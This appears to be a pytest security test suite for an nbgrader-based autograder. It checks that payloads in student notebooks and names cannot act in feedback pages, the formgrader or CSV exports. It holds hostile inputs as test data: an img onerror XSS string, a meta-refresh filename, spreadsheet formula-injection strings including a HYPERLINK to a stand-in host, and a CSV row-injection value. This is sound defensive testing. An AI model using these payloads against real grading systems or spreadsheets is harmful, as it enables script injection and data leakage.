"""Nothing that a student wrote can act where a person looks at it: feedback page, formgrader, spreadsheet."""

import csv
import json
import sys
from functools import cache

import pytest
from nbconvert.exporters import HTMLExporter
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook
from nbgrader.api import Gradebook
from nbgrader.converters import GenerateFeedback
from nbgrader.coursedir import CourseDirectory
from nbgrader.plugins import CsvExportPlugin
from traitlets.config import Config

from autograder.course import new_course
from autograder.errors import SubmissionError
from autograder.grading import marks, records
from autograder.grading.course_config import find_alembic, load_config
from autograder.grading.export import SafeCsvExport
from autograder.grading.feedback import write_feedback
from autograder.grading.intake import MAX_NOTEBOOK, parse_notebook, read_submission
from autograder.grading.notebook import write_notebook
from autograder.grading.rebuild import rebuild
from autograder.grading.replies import cell_result
from autograder.manifest import Cell, ExerciseEntry, Manifest, Role
from autograder.verdict import State, Verdict

from ..jupyter import jupyter_lab, with_token
from .payloads import MARKER, PAYLOADS, TRAP
from .watched_page import watched

MANIFEST = Manifest(
    "a",
    (
        Cell("intro", Role.GIVEN, "markdown", "What is $1 + 1$?"),
        Cell("f", Role.SOLUTION, "code", "def f(): ..."),
        Cell("test_f", Role.TEST, "code", 'check("f", f)', points=2.0, exercise="f"),
        Cell("why", Role.BY_HAND, "markdown", "", points=2.0, exercise="why"),
    ),
    {"f": ExerciseEntry("function", 2.0, (), ""), "why": ExerciseEntry("text", 2.0, (), "")},
    {},
)
NAME = f'<img src="x:" onerror="document.title=\'{MARKER}\'">'


@cache
def stock_exporter():
    """Return what makes nbgrader's own feedback pages."""
    return HTMLExporter(config=GenerateFeedback(coursedir=CourseDirectory()).config)


def stock_page(payload):
    """Return nbgrader's own feedback page of a notebook that holds nothing but ``payload``."""
    if payload.text:
        cell = new_markdown_cell(payload.text, attachments=dict(payload.attachments))
    else:
        cell = new_code_cell("show()", outputs=[json.loads(json.dumps(each)) for each in payload.outputs])
    shown = {"notebook": "a", "score": 0, "max_score": 2, "late_penalty": 0}
    return stock_exporter().from_notebook_node(new_notebook(cells=[cell]), {"nbgrader": shown})[0]


def acts(payload, browser, tmp_path):
    """Wait until ``payload`` acts on stock's page; playwright's error if it does not."""
    page = tmp_path / "a.html"
    page.write_text(stock_page(payload))
    with watched(browser) as seen:
        seen.page.goto(page.as_uri(), wait_until="commit")
        seen.wait_for(payload.act)


ONE_OF_EACH = list({payload.act: payload for payload in reversed(PAYLOADS)}.values())
OTHERS = [payload for payload in PAYLOADS if payload not in ONE_OF_EACH]


@pytest.mark.parametrize("payload", ONE_OF_EACH, ids=lambda payload: payload.name)
def test_a_payload_of_each_sort_acts_where_nothing_is_done_against_it(payload, browser, tmp_path):
    acts(payload, browser, tmp_path)


@pytest.mark.slow
@pytest.mark.parametrize("payload", OTHERS, ids=lambda payload: payload.name)
def test_each_other_payload_acts_where_nothing_is_done_against_it(payload, browser, tmp_path):
    acts(payload, browser, tmp_path)


# --- ours ------------------------------------------------------------------------------------------------------------


def handed_in():
    """Return the notebook of a student who hands in all payloads, wherever a notebook can hold one."""
    answers = [
        {"cell_type": "markdown", "source": each.text, "attachments": dict(each.attachments), "metadata": {}}
        for each in PAYLOADS
    ]
    answers[0]["metadata"] = {"nbgrader": {"grade_id": "why"}, "tags": [NAME]}
    foreign = {"metadata": {NAME: NAME}, "id": NAME, "execution_count": NAME}
    programs = [
        {"cell_type": kind, "source": f"x = 1  # {each.text}\n{NAME}", "outputs": list(each.outputs), **foreign}
        for each in PAYLOADS
        for kind in ("code", "raw")
    ]
    metadata = {"kernelspec": {"name": NAME, "display_name": NAME, "language": NAME}, "title": NAME}
    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": metadata, "cells": answers + programs}).encode()


def what_it_shows():
    """Return a cell's outputs as the student's process reports them: the payloads as text, which is all it can send."""
    texts = [each.text or json.dumps(each.outputs) for each in PAYLOADS]
    shown = [{"type": "text", "text": text} for text in texts]
    printed = [{"type": "stream", "name": "stdout", "text": f"\x1b[31m{text}\x1b]8;;{TRAP}\x07"} for text in texts]
    raised = [{"type": "error", "name": NAME, "message": text, "line": 1, "traceback": text} for text in texts]
    return cell_result({"status": "error", "outputs": shown + printed + raised}).outputs


@pytest.fixture(scope="module")
def course(tmp_path_factory):
    """A course in which such a notebook was handed in and graded, by a student whose name is a payload as well."""
    find_alembic()
    course = new_course(tmp_path_factory.mktemp("rendered") / "course")
    course.manifest_path("a").write_text(MANIFEST.dumps())
    (course.root / "source" / "a").mkdir()
    (course.root / "submitted" / "eve" / "a").mkdir(parents=True)
    (course.root / "submitted" / "eve" / "a" / "a.ipynb").write_bytes(handed_in())
    with Gradebook(course.db_url, course.course_id) as book:
        book.add_assignment("a")
        book.add_notebook("a", "a")
        book.add_solution_cell("f", "a", "a")
        book.add_grade_cell("test_f", "a", "a", max_score=2, cell_type="code")
        book.add_grade_cell("why", "a", "a", max_score=2, cell_type="markdown")
        book.add_solution_cell("why", "a", "a")
        book.add_student("eve", first_name=NAME, last_name=f"{NAME}</td>", email=NAME)
        records.create_tables(book)
    graded(course)
    return course


def graded(course):
    plan = rebuild(MANIFEST, parse_notebook(handed_in()))
    outputs = {i: what_it_shows() for i, cell in enumerate(plan) if cell.cell_type == "code"}
    folder = course.folder("autograded", "eve", "a")
    folder.mkdir(parents=True)
    (folder / "a.ipynb").write_text(write_notebook(plan, outputs))
    verdicts = [Verdict("test_f", State.SCORED, 2.0, 0.0), Verdict("why", State.BY_HAND, 2.0)]
    with Gradebook(course.db_url, course.course_id) as book, marks.one_transaction(book):
        marks.save(book, "a", "eve", verdicts, {"f": "0 of 2 points."}, {"key": "k"}, "", Config())


def test_nothing_acts_on_the_feedback_page(course, browser):
    (page,) = write_feedback(course, "a")
    with watched(browser) as seen:
        seen.page.goto(page.as_uri(), wait_until="networkidle")
        assert seen.acted() == []
        assert MARKER in seen.page.inner_text("body")
        assert seen.page.locator("h4").is_visible()


def test_nothing_acts_in_the_formgrader(course, browser, tmp_path):
    with Gradebook(course.db_url, course.course_id) as book:
        (notebook,) = book.find_submission("a", "eve").notebooks
        views = [
            "manage_submissions/a",
            "gradebook/a/a",
            "manage_students",
            "manage_students/eve",
            f"submissions/{notebook.id}",
        ]
    with jupyter_lab(sys.executable, course.root, tmp_path) as address, watched(browser) as seen:
        for view in views:
            seen.page.goto(with_token(address, f"formgrader/{view}"), wait_until="networkidle")
            assert seen.acted() == [], view
            assert seen.page.url.startswith(f"{address}/formgrader/{view}")
        assert MARKER in seen.page.inner_text("#notebook")
        assert seen.page.locator("input.score").first.is_visible()


@pytest.mark.parametrize("kind", ["a link", "too large"])
def test_the_reason_why_a_notebook_is_not_read_does_not_hold_the_name_that_the_student_gave_it(kind, tmp_path):
    notebook = tmp_path / f'<meta http-equiv="refresh" content="0;url=http:{MARKER}">.ipynb'
    if kind == "a link":
        notebook.symlink_to("/dev/null")
    else:
        with notebook.open("wb") as file:
            file.truncate(MAX_NOTEBOOK + 1)
    with pytest.raises(SubmissionError) as refused:
        read_submission(tmp_path, "a")
    assert MARKER not in refused.value.cause


# --- the spreadsheet -------------------------------------------------------------------------------------------------

FORMULAS = ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", '=HYPERLINK("http://trap.test/"&A1,"see")')
ROW = "Eve\na,,,bob,,,,2.0,0.0,2.0,2.0"
NAMES = (*FORMULAS, ROW, "Ada, Countess", None)


@pytest.fixture(scope="module")
def named(tmp_path_factory):
    """The address of a gradebook in which a student has each of these names."""
    find_alembic()
    address = f"sqlite:///{tmp_path_factory.mktemp('named') / 'gradebook.db'}"
    with Gradebook(address) as book:
        book.add_assignment("a")
        for number, name in enumerate(NAMES):
            book.add_student(f"s{number}", first_name=name, last_name=name, email=name)
    return address


def exported(plugin, address, path):
    """Return the rows of the gradebook as ``plugin`` exports it, as a spreadsheet reads them."""
    with Gradebook(address) as book:
        plugin(to=str(path / "grades.csv")).export(book)
    with (path / "grades.csv").open(newline="") as file:
        return list(csv.DictReader(file))


def formulas(rows):
    return [cell for row in rows for cell in row.values() if isinstance(cell, str) and cell[:1] in set("=+-@\t\r")]


def test_no_name_is_a_formula_or_a_row_in_the_export(named, tmp_path):
    rows = exported(SafeCsvExport, named, tmp_path)
    assert formulas(rows) == []
    found = {row["student_id"]: row["first_name"].lstrip("'") for row in rows}
    assert found == {f"s{number}": " ".join((name or "").split()) for number, name in enumerate(NAMES)}
    assert len((tmp_path / "grades.csv").read_text().splitlines()) == 1 + len(rows)


def test_names_are_formulas_and_rows_where_nothing_is_done_against_it(named, tmp_path):
    rows = exported(CsvExportPlugin, named, tmp_path)
    assert len(formulas(rows)) >= len(FORMULAS)
    assert any(row["student_id"] == "bob" and row["score"] == "2.0" for row in rows)


def test_the_export_says_what_stock_says_where_no_name_is_hostile(course, tmp_path):
    texts = []
    for plugin in (SafeCsvExport, CsvExportPlugin):
        with Gradebook(course.db_url, course.course_id) as book:
            book.update_or_create_student("eve", first_name="Eve", last_name="E", email=None)
            book.add_student(f"not-there-{plugin.__name__}")
            plugin(to=str(tmp_path / plugin.__name__), student=["eve"]).export(book)
            book.db.rollback()
        texts.append((tmp_path / plugin.__name__).read_text())
    assert texts[0] == texts[1]


def test_a_course_exports_with_ours(course):
    assert load_config(course).ExportApp.plugin_class is SafeCsvExport
